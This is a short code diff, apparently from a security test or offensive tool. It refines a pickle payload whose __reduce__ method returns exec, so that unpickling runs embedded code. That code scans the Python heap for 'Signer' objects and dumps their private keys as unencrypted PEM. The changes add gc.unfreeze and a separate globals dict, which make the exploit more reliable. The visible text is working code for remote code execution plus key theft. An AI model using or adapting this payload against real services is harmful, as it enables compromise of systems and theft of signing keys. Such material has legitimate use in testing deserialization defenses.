@@ -15,6 +15,7 @@ NAMESPACE = "global-dispatcher"
 _CODE = """
 import gc, json, os
 from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat
+gc.unfreeze()
 signers = [one for one in gc.get_objects() if type(one).__name__ == "Signer"]
 form = Encoding.PEM, PrivateFormat.PKCS8, NoEncryption()
 keys = [one._signing.key.private_bytes(*form).decode() for one in signers if one._signing]
@@ -30,7 +31,7 @@ class Payload:
         self._code = _CODE % (by, file)
 
     def __reduce__(self) -> tuple[Any, ...]:
-        return exec, (self._code,)
+        return exec, (self._code, {})
 
 
 def hostile_class(file: str) -> type:
